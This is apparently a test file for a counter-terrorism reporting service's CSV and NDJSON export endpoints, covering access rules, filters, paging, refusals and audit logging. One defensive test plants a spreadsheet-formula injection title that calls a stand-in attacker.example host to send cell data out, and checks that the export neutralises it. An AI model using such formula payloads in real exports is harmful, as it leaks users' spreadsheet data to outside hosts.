import { parse } from 'csv-parse/sync';
import { and, eq, isNull } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MemberViewer } from '../src/auth/viewer.js';
import { findObservations } from '../src/db/queries/observations.js';
import { auditEvents } from '../src/db/schema/audit.js';
import { neutralizeFormula } from '../src/http/export.js';
import { gql, startTestApp, type TestApp } from './support/app.js';
import { createIdentityProvider, headersFor, type PersonaName, type TestIdentityProvider } from './support/tokens.js';

let api: TestApp;
let idp: TestIdentityProvider;
beforeAll(async () => {
  idp = await createIdentityProvider();
  api = await startTestApp(idp.env);
});
afterAll(() => api?.stop());

const as = (persona: PersonaName) => headersFor(idp, persona);

async function download(path: string, headers: Record<string, string> = {}) {
  const response = await fetch(`${api.url}${path}`, { headers });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

/** The CSV as a spreadsheet reads it: header row, then one object per row (the BOM is dropped). */
async function csv(path: string, headers: Record<string, string> = {}) {
  const response = await download(path, headers);
  expect(response.status, response.text.slice(0, 300)).toBe(200);
  const [header, ...rows] = parse(response.text, { bom: true }) as string[][];
  return { header: header!, rows: rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))), response };
}

const REPORT_COLUMNS = ['id', 'title', 'language', 'kind', 'topics', 'countries', 'author', 'publishedAt', 'updatedAt', 'revision', 'tlp', 'retractedAt'];
const OBSERVATION_COLUMNS = ['id', 'indicator', 'country', 'period', 'periodStart', 'value', 'tlp', 'source', 'revision', 'recordedAt', 'status'];
const MEMBER_COLUMNS = ['sourceReliability', 'informationCredibility'];

const TOTAL = `query($filter: ReportFilter, $first: Int) { reports(filter: $filter, first: $first) { totalCount edges { node { id } } } }`;

describe('who gets which rows and columns', () => {
  it('anonymous: TLP:CLEAR rows only, as many as GraphQL lists, and no reliability columns', async () => {
    const { header, rows, response } = await csv('/export/reports.csv');
    expect(header).toEqual(REPORT_COLUMNS);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="ct-ewn-reports-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(new Set(rows.map((r) => r.tlp))).toEqual(new Set(['CLEAR']));
    const graph = await gql(api.url, TOTAL, { first: 1 });
    expect(rows).toHaveLength(graph.data!.reports.totalCount);

    const observations = await csv('/export/observations.csv?country=KGZ');
    expect(observations.header).toEqual(OBSERVATION_COLUMNS);
    expect(observations.rows.length).toBeGreaterThan(0);
    expect(new Set(observations.rows.map((r) => r.tlp))).toEqual(new Set(['CLEAR']));
  });

  it("a member's export holds exactly what GraphQL `reports(filter)` counts, in the same order, with the gradings", async () => {
    const headers = await as('unodcAnalyst');
    const { header, rows } = await csv('/export/reports.csv?country=TJK&topic=ONLINE_PROPAGANDA', headers);
    expect(header).toEqual([...REPORT_COLUMNS, ...MEMBER_COLUMNS]);
    const graph = await gql(api.url, TOTAL, { filter: { country: 'TJK', topic: 'ONLINE_PROPAGANDA' }, first: 100 }, headers);
    expect(rows).toHaveLength(graph.data!.reports.totalCount);
    expect(rows.slice(0, 100).map((r) => r.id)).toEqual(graph.data!.reports.edges.map((e: { node: { id: string } }) => e.node.id));
    expect(new Set(rows.map((r) => r.tlp)).size).toBeGreaterThan(2);
    expect(rows.every((r) => /^[A-F]$/.test(r.sourceReliability!) && /^[1-6]$/.test(r.informationCredibility!))).toBe(true);
    expect(rows.every((r) => r.countries!.split(';').includes('TJK'))).toBe(true);
  });

  it('observations follow the same row rule as GraphQL, for the in-force revisions', async () => {
    const headers = await as('kazContributor');
    const { rows, header } = await csv('/export/observations.csv?indicator=OP-01&from=2025-01&to=2025-12', headers);
    expect(header).toEqual([...OBSERVATION_COLUMNS, ...MEMBER_COLUMNS]);
    const graph = await gql(
      api.url,
      `{ indicator(code: "OP-01") { observations(from: "2025-01", to: "2025-12", first: 100) { totalCount edges { node { id } } } } }`,
      {},
      headers,
    );
    expect(rows.map((r) => r.id).sort()).toEqual(graph.data!.indicator.observations.edges.map((e: { node: { id: string } }) => e.node.id).sort());
    expect(rows.every((r) => r.period! >= '2025-01' && r.period! <= '2025-12' && r.indicator === 'OP-01')).toBe(true);
    // A value is a number in the file, not text: nothing to neutralise, and a spreadsheet can sum it.
    expect(rows.every((r) => Number.isFinite(Number(r.value)) && !r.value!.startsWith("'"))).toBe(true);
  });
});

describe('filters', () => {
  it('narrow the export like the GraphQL arguments', async () => {
    const headers = await as('unodcAnalyst');
    const green = await csv('/export/reports.csv?tlp=GREEN&author=unodc', headers);
    expect(green.rows.length).toBeGreaterThan(0);
    expect(green.rows.every((r) => r.tlp === 'GREEN' && r.author === 'unodc')).toBe(true);

    const window = await csv('/export/reports.csv?publishedFrom=2026-01-01T00:00:00Z&publishedTo=2026-03-01T00:00:00Z&orderBy=PUBLISHED_ASC', headers);
    const dates = window.rows.map((r) => r.publishedAt!);
    expect(dates.length).toBeGreaterThan(0);
    expect(dates.every((d) => d >= '2026-01-01' && d < '2026-03-01')).toBe(true);
    expect([...dates].sort()).toEqual(dates);

    const searched = await csv('/export/reports.csv?search=propaganda&kind=BRIEFING', headers);
    const graph = await gql(api.url, TOTAL, { filter: { search: 'propaganda', kind: 'BRIEFING' }, first: 1 }, headers);
    expect(searched.rows).toHaveLength(graph.data!.reports.totalCount);

    const asOf = await csv('/export/observations.csv?indicator=OP-01&country=KAZ&asOf=2020-01-01T00:00:00Z', headers);
    expect(asOf.rows).toEqual([]);
  });
});

describe('pages', () => {
  it('never skip a value: page by page, the values of a series two sources report are all there, in order', async () => {
    // OP-02 for Kazakhstan: the sample has the national agency's and UNODC's figure for every period, so
    // page boundaries fall between two sources' values of one period (the export reads pages of 500).
    const viewer: MemberViewer = { kind: 'member', sub: 'sample:unodc:analyst-1', organizationId: 'unodc', organizationKind: 'UN_ENTITY', organizationCountry: null, parentOrganizationIds: [], roles: ['analyst'], coordinatesNetwork: false };
    const filter = { indicator: 'OP-02', country: 'KAZ' };
    const whole = await findObservations(api.app.database.db, viewer, filter, 1000);
    expect(whole.pageInfo.hasNextPage).toBe(false);
    expect(new Set(whole.edges.map((e) => e.node.sourceOrgId))).toEqual(new Set(['kaz-ct', 'unodc']));
    const paged: string[] = [];
    let after: string | null = null;
    for (;;) {
      const page = await findObservations(api.app.database.db, viewer, filter, 1, after);
      paged.push(...page.edges.map((e) => e.node.id));
      if (!page.pageInfo.hasNextPage) break;
      after = page.pageInfo.endCursor;
    }
    expect(paged).toEqual(whole.edges.map((e) => e.node.id));
  });
});

describe('NDJSON', () => {
  it('one JSON object per line, with lists as arrays, the same rows as the CSV', async () => {
    const headers = await as('monitoringTeam');
    const response = await download('/export/reports.ndjson?country=AFG', headers);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const lines = response.text.trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    const { rows } = await csv('/export/reports.csv?country=AFG', headers);
    expect(lines.map((l) => l.id)).toEqual(rows.map((r) => r.id));
    expect(Object.keys(lines[0]!)).toEqual([...REPORT_COLUMNS, ...MEMBER_COLUMNS]);
    expect(lines.every((l) => Array.isArray(l.topics) && (l.countries as string[]).includes('AFG'))).toBe(true);

    const observations = await download('/export/observations.ndjson?indicator=VE-01&country=UZB', headers);
    const values = observations.text.trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(values.length).toBeGreaterThan(0);
    expect(values.every((v) => typeof v.value === 'number' && v.indicator === 'VE-01')).toBe(true);
  });
});

describe('refusals', () => {
  it('bad parameters are a 400 BAD_USER_INPUT naming each one', async () => {
    const cases: [string, string][] = [
      ['/export/reports.csv?country=tj', 'country'],
      ['/export/reports.csv?orderBy=RANDOM', 'orderBy'],
      ['/export/reports.csv?publishedFrom=yesterday', 'publishedFrom'],
      ['/export/reports.csv?tlp=PINK', 'tlp'],
      ['/export/reports.csv?includeRetracted=yes', 'includeRetracted'],
      [`/export/reports.csv?search=${'x'.repeat(201)}`, 'search'],
      ['/export/reports.csv?topic=A&topic=B', 'topic'],
      ['/export/reports.csv?countryy=TJK', 'countryy'],
      ['/export/observations.ndjson?from=2025-13', 'from'],
      ['/export/observations.csv?indicator=op 01', 'indicator'],
      ['/export/observations.csv?asOf=2026-02-30', 'asOf'],
      ['/export/reports.csv?country=ZZZ', 'country'],
      ['/export/observations.csv?indicator=ZZ-99', 'indicator'],
    ];
    for (const [path, field] of cases) {
      const response = await download(path);
      expect(response.status, path).toBe(400);
      const body = JSON.parse(response.text) as { errors: { message: string; extensions: { code: string; field: string } }[] };
      expect(body.errors[0]!.extensions, path).toMatchObject({ code: 'BAD_USER_INPUT', field });
    }
  });

  it('a bad token is a 401 UNAUTHENTICATED, never an anonymous export', async () => {
    for (const authorization of ['Bearer not-a-token', 'Basic dXNlcjpwYXNz']) {
      const response = await download('/export/reports.csv', { authorization });
      expect(response.status).toBe(401);
      expect(response.headers.get('www-authenticate')).toBe('Bearer');
      expect(JSON.parse(response.text).errors[0].extensions.code).toBe('UNAUTHENTICATED');
    }
  });
});

describe('spreadsheet formula injection', () => {
  it('a title that starts a formula is exported as text, prefixed with a quote', async () => {
    const title = '=HYPERLINK("http://attacker.example/?d="&A1,"Open")';
    const token = await idp.sign({ sub: 'sample:kaz-ct:analyst-1', org: 'kaz-ct', roles: ['contributor', 'org-admin'] });
    const created = await gql(
      api.url,
      `mutation($input: CreateReportInput!) { createReport(input: $input) { id } }`,
      {
        input: {
          title,
          language: 'EN',
          summary: 'Formula injection probe',
          body: 'A report whose title is a spreadsheet formula.',
          kind: 'BRIEFING',
          topics: ['ONLINE_PROPAGANDA'],
          countries: ['KAZ'],
          tlp: 'CLEAR',
          sourceReliability: 'B',
          informationCredibility: 2,
        },
      },
      { authorization: `Bearer ${token}` },
    );
    expect(created.errors).toBeUndefined();
    const id = created.data!.createReport.id as string;
    const { rows } = await csv('/export/reports.csv?author=kaz-ct&tlp=CLEAR');
    const row = rows.find((r) => r.id === id);
    expect(row!.title).toBe(`'${title}`);
    // The NDJSON is not for spreadsheets: the title is given as written.
    const ndjson = await download('/export/reports.ndjson?author=kaz-ct&tlp=CLEAR');
    expect(ndjson.text).toContain(JSON.stringify(title));
  });

  it('every dangerous first character is neutralised, other text is not', () => {
    for (const cell of ['=1+1', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(neutralizeFormula(cell)).toBe(`'${cell}`);
    for (const cell of ['[Sample] Report', 'A=B', '', '2026-01-01T00:00:00.000Z']) expect(neutralizeFormula(cell)).toBe(cell);
  });
});

describe('the access log', () => {
  async function exportEntries(actorOrgId: string | null, operationName: string) {
    await api.app.accessLog.flush();
    return api.app.database.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.operationName, operationName), actorOrgId ? eq(auditEvents.actorOrgId, actorOrgId) : isNull(auditEvents.actorOrgId)));
  }

  it("records a member's export: the non-CLEAR records sent and the restricted columns given", async () => {
    const { rows } = await csv('/export/reports.csv?country=KGZ&kind=INCIDENT', await as('scoRats'));
    const [entry, ...more] = await exportEntries('sco-rats', 'export:reports.csv');
    expect(more).toEqual([]);
    expect(entry).toMatchObject({ kind: 'READ', actorSub: 'sample:sco-rats:analyst-1', actorOrgId: 'sco-rats' });
    expect(new Set(entry!.reportIds)).toEqual(new Set(rows.filter((r) => r.tlp !== 'CLEAR').map((r) => r.id)));
    expect(entry!.reportIds.length).toBeGreaterThan(0);
    expect(entry!.fields.sort()).toEqual(['Report.informationCredibility', 'Report.sourceReliability']);
  });

  it("an anonymous export of public rows and fields leaves no entry (as for GraphQL)", async () => {
    await csv('/export/observations.csv?indicator=OP-02');
    expect(await exportEntries(null, 'export:observations.csv')).toEqual([]);
  });

  it('a client that leaves midway is logged with what was sent', async () => {
    const headers = await as('unodcAnalyst');
    const controller = new AbortController();
    const response = await fetch(`${api.url}/export/observations.ndjson`, { headers, signal: controller.signal });
    const reader = response.body!.getReader();
    await reader.read();
    controller.abort();
    await reader.closed.catch(() => undefined);
    let entries: Awaited<ReturnType<typeof exportEntries>> = [];
    for (let i = 0; i < 50 && entries.length === 0; i += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      entries = await exportEntries('unodc', 'export:observations.ndjson');
    }
    expect(entries).toHaveLength(1);
    expect(entries[0]!.observationIds.length).toBeGreaterThan(0);
    expect(entries[0]!.fields.sort()).toEqual(['Observation.informationCredibility', 'Observation.sourceReliability']);
  });
});
